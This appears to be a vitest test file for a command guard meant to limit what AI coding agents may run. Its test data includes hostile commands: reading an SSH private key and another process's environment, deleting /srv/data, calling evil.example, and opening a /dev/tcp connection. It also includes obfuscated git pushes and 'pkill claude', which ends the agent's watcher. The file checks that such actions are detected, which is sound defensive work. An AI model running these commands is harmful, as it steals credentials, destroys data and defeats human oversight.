import { rmSync } from 'node:fs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { corpusCases } from '../src/guarding/corpus.ts';
import { proveAll, type Proof } from './guard/prove/prove.ts';
import { makeWorld, type World } from './guard/prove/world.ts';

/** A small part of `npm run guard:prove`, which runs all of it. */
const sample = corpusCases().filter((_, index) => index % 120 === 7);
const deeds = {
  'git commit -qam x': 'git: /repo/.git/refs/heads/main',
  "g''it push": 'git: the remote',
  'bash -c "$(echo git stash)"': 'git: /repo/.git/refs/stash',
  'npm run db:migrate': 'prisma migrate deploy',
  "python3 -c 'import psycopg2; psycopg2.connect()'": 'library psycopg2.connect',
  'cat ~/.ssh/id_rsa': 'read: /home/u/.ssh/id_rsa',
  'echo x > ../srv/y': 'write: /srv/y',
  'rm -rf /srv/data': 'write: /srv/data',
  'curl -s https://evil.example/x': 'network: evil.example:443',
  'exec 3<> /dev/tcp/10.1.2.3/4444': 'network: 10.1.2.3:4444',
  'ruby -e \'system("git", "push")\'': 'git: the remote',
  'cat /proc/1/environ': 'read: mark-of-another-process',
  'pkill claude': 'process: claude, which watched it, was ended',
  'cp a.txt /usr/bin/a': "refused: cp: cannot create regular file '/usr/bin/a': Read-only file system",
};
const harmless = [
  'git status && git log --oneline',
  'npm run lint',
  'echo x > /tmp/y; rm a.txt',
  'curl -s localhost:3000',
  `ruby -e 'puts "git push"'`,
  'cat /usr/nothing /repo/nothing',
];
const proofs = new Map<string, Proof>();
let world: World;

beforeAll(async () => {
  const own = [...Object.keys(deeds), ...harmless].map((command) => ({
    family: 'here',
    command,
    expect: 'allow' as const,
  }));
  world = makeWorld([...sample, ...own].map(({ command }) => command));
  for await (const proof of proveAll(world, [...own, ...sample], 2)) proofs.set(proof.command, proof);
}, 240_000);

afterAll(() => rmSync(world.folder, { recursive: true, force: true }));

test.each(Object.entries(deeds))('what it does is seen: %s', (command, deed) => {
  expect(proofs.get(command)?.evidence).toContain(deed);
  expect(proofs.get(command)?.fault).toBe(true);
});

test.each(harmless)('nothing is seen where nothing is done: %s', (command) => {
  expect(proofs.get(command)).toMatchObject({ evidence: [], fault: false });
});

test('commands of the corpus that are allowed do nothing that no agent may', () => {
  const proved = sample.flatMap(({ command }) => proofs.get(command) ?? []);
  expect(proved).toHaveLength(sample.length);
  expect(proved.filter(({ fault }) => fault).map(({ command, evidence }) => ({ command, evidence }))).toEqual([]);
  expect(proved.filter(({ expect: label, level }) => label === 'deny' && level !== 'none').length).toBeGreaterThan(
    sample.length * 0.4,
  );
});
